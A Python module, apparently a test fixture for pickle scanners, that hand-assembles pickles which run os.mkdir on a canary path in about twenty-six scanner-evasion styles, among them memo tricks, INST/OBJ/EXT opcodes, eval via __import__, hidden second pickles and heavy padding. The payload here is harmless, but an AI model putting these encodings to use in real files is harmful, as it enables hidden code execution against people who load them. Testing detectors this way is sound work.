"""Pickles that make a folder, the canary, when somebody unpickles them: in twenty styles that have fooled checkers."""

from __future__ import annotations

import copyreg
import os
import pickle
import struct
from collections.abc import Callable
from dataclasses import dataclass

EXTENSION_CODE = 0x7F


@dataclass(frozen=True)
class Style:
    """One way to write the call `os.mkdir(path)`; `loads` is how often a reader must unpickle until it happens."""

    make: Callable[[str], bytes]
    loads: int = 1


def text(word: str) -> bytes:
    """Push a text, protocol 4."""
    return b"\x8c" + bytes([len(word.encode())]) + word.encode()


def long_text(word: str) -> bytes:
    """Push a text, protocol 1."""
    return b"X" + struct.pack("<I", len(word.encode())) + word.encode()


def canary(path: str) -> bytes:
    """The plain form, protocol 2, as torch's own files are written."""
    return b"\x80\x02cos\nmkdir\n" + long_text(path) + b"\x85R."


def memoised_names(path: str) -> bytes:
    """The names are put into the memo early and fetched late."""
    names = text("os") + b"\x94" + b"0" + text("mkdir") + b"\x94" + b"0"
    return b"\x80\x04" + names + b"N0" + b"h\x00" + b"h\x01" + b"\x93" + text(path) + b"\x85R."


def scattered_names(path: str) -> bytes:
    """Between the names stands what is thrown away again."""
    return b"\x80\x04" + text("os") + b"(K\x01K\x021" + b"]0" + text("mkdir") + b"N0" + b"\x93" + text(path) + b"\x85R."


def second_memo(path: str) -> bytes:
    """A memo place holds a harmless name first and another one later."""
    return (
        b"\x80\x04" + text("collections") + b"q\x000" + text("os") + b"q\x000" + b"h\x00" + text("mkdir") + b"\x93"
    ) + (text(path) + b"\x85R.")


def framed(path: str) -> bytes:
    """Protocol 5 with a frame."""
    body = text("os") + text("mkdir") + b"\x93" + text(path) + b"\x85R."
    return b"\x80\x05\x95" + struct.pack("<Q", len(body)) + body


def through_import(path: str) -> bytes:
    """`getattr(__import__("os"), "mkdir")(path)` in the names of Python 2."""
    module = b"c__builtin__\n__import__\n(Vos\ntR"
    return b"c__builtin__\ngetattr\n(" + module + b"Vmkdir\ntR(V" + path.encode() + b"\ntR."


def through_partial(path: str) -> bytes:
    """Calls an object that another call made."""
    return b"\x80\x02cfunctools\npartial\ncos\nmkdir\n" + long_text(path) + b"\x86R)R."


STYLES: dict[str, Style] = {
    "protocol 0": Style(lambda path: b"cos\nmkdir\n(S'" + path.encode() + b"'\ntR."),
    "protocol 0, posix": Style(lambda path: b"cposix\nmkdir\n(V" + path.encode() + b"\ntR."),
    "protocol 2": Style(canary),
    "stack global": Style(lambda path: b"\x80\x04" + text("os") + text("mkdir") + b"\x93" + text(path) + b"\x85R."),
    "stack global without a protocol": Style(
        lambda path: text("os") + text("mkdir") + b"\x93" + text(path) + b"\x85R."
    ),
    "stack global of memoised names": Style(memoised_names),
    "stack global of scattered names": Style(scattered_names),
    "stack global of a memo place written twice": Style(second_memo),
    "stack global of byte strings": Style(lambda path: b"S'os'\nS'mk\\x64ir'\n\x93" + text(path) + b"\x85R."),
    "stack global of long texts": Style(
        lambda path: b"\x8d" + struct.pack("<Q", 2) + b"os" + long_text("mkdir") + b"\x93" + text(path) + b"\x85R."
    ),
    "stack global of escaped texts": Style(
        lambda path: b"V\\u006f\\u0073\nV\\u006dkdir\n\x93" + text(path) + b"\x85R."
    ),
    "dotted name": Style(
        lambda path: b"\x80\x04" + text("shutil") + text("os.mkdir") + b"\x93" + text(path) + b"\x85R."
    ),
    "frame": Style(framed),
    "INST": Style(lambda path: b"(V" + path.encode() + b"\nios\nmkdir\n."),
    "OBJ": Style(lambda path: b"(cos\nmkdir\nV" + path.encode() + b"\no."),
    "EXT": Style(lambda path: b"\x80\x02\x82" + bytes([EXTENSION_CODE]) + long_text(path) + b"\x85R."),
    "eval": Style(lambda path: b"cbuiltins\neval\n(V__import__('os').mkdir('" + path.encode() + b"')\ntR."),
    "getattr of an import": Style(through_import),
    "partial": Style(through_partial),
    "second pickle of a file": Style(lambda path: pickle.dumps({"weights": [1.0]}, 2) + canary(path), loads=2),
    "fifth pickle of a file": Style(
        lambda path: b"".join(pickle.dumps(n, 2) for n in range(4)) + canary(path), loads=5
    ),
    "broken behind the call": Style(lambda path: canary(path)[:-1] + b"0\xff\xff\xff"),
    "cut behind the call": Style(lambda path: canary(path)[:-1]),
    "hexadecimal number first": Style(lambda path: b"I0x10\n0" + canary(path)[2:]),
    "endless number first": Style(lambda path: b"L" + b"1" * 4000 + b"L\n0" + canary(path)[2:]),
    "much padding first": Style(lambda path: b"\x80\x02" + b"N0" * 50_000 + canary(path)[2:]),
}


def register_extension() -> None:
    """Make the EXT style live, as a handler's own library could."""
    copyreg.add_extension("os", "mkdir", EXTENSION_CODE)


def forget_extension() -> None:
    """Take it back."""
    copyreg.remove_extension("os", "mkdir", EXTENSION_CODE)


def remove_canary(path: str) -> bool:
    """Whether the canary ran; it can run again afterwards."""
    try:
        os.rmdir(path)
    except FileNotFoundError:
        return False
    return True
